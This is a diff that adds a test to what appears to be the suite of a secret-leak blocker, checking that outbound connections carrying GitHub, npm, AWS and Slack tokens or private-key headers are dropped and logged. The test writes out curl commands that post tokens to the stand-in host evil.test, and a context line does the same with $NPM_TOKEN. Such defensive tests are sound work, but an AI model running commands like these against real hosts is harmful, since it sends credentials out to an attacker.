@@ -304,6 +304,31 @@ class Secrets(RwTestCase):
         self.assertEqual(ev[0]["destination"], "evil.test")
         self.assertNowhere(run, FILE_TOKEN)
 
+    def test_every_token_format_found_in_the_kernel(self):
+        """Each token format the kernel looks for, in a plain segment (the scan's own format
+        check, not Hyperscan): dropped and recorded, one record per connection. The PEM heads
+        cover the first and the last place "PRIVATE KEY-----" may start. (github_pat_ is left
+        to user space by design: src/secrets/secrets.c, secrets_kernel_sync.)"""
+        tokens = {
+            "ghp_" + "Ab3dE6gH9jK2mN5pQ8sT1vW4yZ7bC0eF3hJ6": "github",
+            "npm_" + "Zq7fT2kLm9xW4vB8nR1sY6hJ3cD5gZ0pA2eUq": "npm",
+            "AKIA" + "Q7FT2KLM9XW4VB8N": "aws",
+            "xoxb-" + "1234567890-ab_cd": "slack",
+            "-----BEGIN PRIVATE KEY-----": "private_key",
+            "-----BEGIN ENCRYPTED PRIVATE KEY-----": "private_key",
+        }
+        script = "".join(f"curl -sS -m 10 -o /dev/null --data-binary 't={t}&x=1' "
+                         f"http://evil.test:8080/up; echo curl{i}=$?; "
+                         for i, t in enumerate(tokens))
+        run = self.job(script)
+        for i in range(len(tokens)):
+            self.assertIn(f"curl{i}=56", run.stdout, run.stderr)
+        ev = self.leaks(run)
+        self.assertEqual(sorted((e["secret"], e["source"], e["channel"]) for e in ev),
+                         sorted((n, "format", "plain_tcp") for n in tokens.values()), run.events)
+        for t in tokens:
+            self.assertFalse(self.srv.got(t), t)
+
     def test_plain_http_dropped_and_reset(self):
         run = self.job('curl -sS -m 10 -o /dev/null -d "t=$NPM_TOKEN" '
                        'http://evil.test:8080/up; echo curl=$?')
